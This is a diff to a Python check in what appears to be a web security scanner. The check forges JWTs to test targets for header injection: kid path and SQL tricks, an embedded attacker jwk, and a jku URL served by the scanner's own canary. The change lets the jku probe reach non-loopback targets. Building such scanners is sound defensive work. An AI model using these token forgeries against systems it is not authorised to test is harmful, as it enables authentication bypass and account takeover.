@@ -1,22 +1,22 @@
-"""Authentication: JWT header injection — `kid` path/SQL tricks, an embedded `jwk`, a `jku` we control."""
+"""Authentication: JWT header injection — `kid` path/SQL tricks, an embedded `jwk`, a `jku` we control.
+
+The `jku` key set is served by the scanner's canary (scan/canary.py), wherever the target can reach it.
+"""
 
 from __future__ import annotations
 
-import ipaddress
 import secrets
-import threading
-from collections.abc import Iterator
-from contextlib import contextmanager
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import orjson
 from cryptography.hazmat.primitives.asymmetric import rsa
 
 from bastion.scan import tokens
-from bastion.scan.checks._forgery import jwt_session, try_forged
+from bastion.scan.checks._forgery import jwt_sessions, try_forged
 from bastion.scan.context import ScanContext
-from bastion.scan.findings import Severity
-from bastion.scan.registry import CheckInfo, check
+from bastion.scan.findings import CheckInfo, Severity
+from bastion.scan.registry import check
+from bastion.scan.reporter import Reporter
+from bastion.scan.sessions import Session
 
 INFO = CheckInfo(
     id="authn.jwt-header-injection",
@@ -32,46 +32,13 @@ INFO = CheckInfo(
 )
 
 
-@contextmanager
-def jwks_server(document: bytes) -> Iterator[str]:
-    """Serve our JWKS on loopback for the `jku` probe; only used when the target itself is on loopback."""
-
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            self.send_response(200)
-            self.send_header("content-type", "application/json")
-            self.send_header("content-length", str(len(document)))
-            self.end_headers()
-            self.wfile.write(document)
-
-        def log_message(self, *args: object) -> None:
-            return None
-
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    try:
-        yield f"http://127.0.0.1:{server.server_address[1]}/jwks.json"
-    finally:
-        server.shutdown()
-        server.server_close()
-
-
-def _loopback(host: str) -> bool:
-    if host == "localhost":
-        return True
-    try:
-        return ipaddress.ip_address(host).is_loopback
-    except ValueError:
-        return False
-
-
 @check(INFO)
-def run(ctx: ScanContext) -> None:
-    found = jwt_session(ctx, INFO.id)
-    if found is None:
-        return
-    session, parsed = found
+def run(ctx: ScanContext, report: Reporter) -> None:
+    for session, parsed in jwt_sessions(ctx, report):
+        _attack(ctx, report, session, parsed)
+
+
+def _attack(ctx: ScanContext, report: Reporter, session: Session, parsed: tokens.ParsedToken) -> None:
     claims = parsed.claims
     # kid pointing at a file whose content is known (empty), or at SQL that returns a chosen key.
     hmac_header = {k: v for k, v in parsed.header.items() if k not in ("jku", "x5u", "jwk")} | {"alg": "HS256"}
@@ -86,17 +53,19 @@ def run(ctx: ScanContext) -> None:
         ),
     ]
     for forged, description in attempts:
-        if try_forged(ctx, INFO.id, session, forged, description):
+        if try_forged(ctx, report, session, forged, description):
             return
     key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
     kid = "bst-" + secrets.token_hex(4)
     jwk = tokens.public_jwk(key, kid)
     rs_header = {k: v for k, v in parsed.header.items() if k not in ("jku", "x5u")} | {"alg": "RS256", "kid": kid}
     embedded = tokens.sign_rs256({**rs_header, "jwk": jwk}, claims, key)
-    if try_forged(ctx, INFO.id, session, embedded, "an RS256 token signed with the attacker's key embedded as `jwk`"):
+    if try_forged(ctx, report, session, embedded, "an RS256 token signed with the attacker's key embedded as `jwk`"):
         return
-    if not _loopback(ctx.target.host):
-        return  # a jku probe needs the target to reach us; only done when both are on this machine
-    with jwks_server(orjson.dumps({"keys": [jwk]})) as url:
-        forged = tokens.sign_rs256({**rs_header, "jku": url}, claims, key)
-        try_forged(ctx, INFO.id, session, forged, f"an RS256 token whose `jku` points at the attacker's JWKS ({url})")
+    canary = ctx.canary()
+    if isinstance(canary, str):
+        return  # the target could not fetch a key set from us
+    path, _ = canary.token("jwks")
+    url = canary.serve(path, orjson.dumps({"keys": [jwk]}))
+    forged = tokens.sign_rs256({**rs_header, "jku": url}, claims, key)
+    try_forged(ctx, report, session, forged, f"an RS256 token whose `jku` points at the attacker's JWKS ({url})")
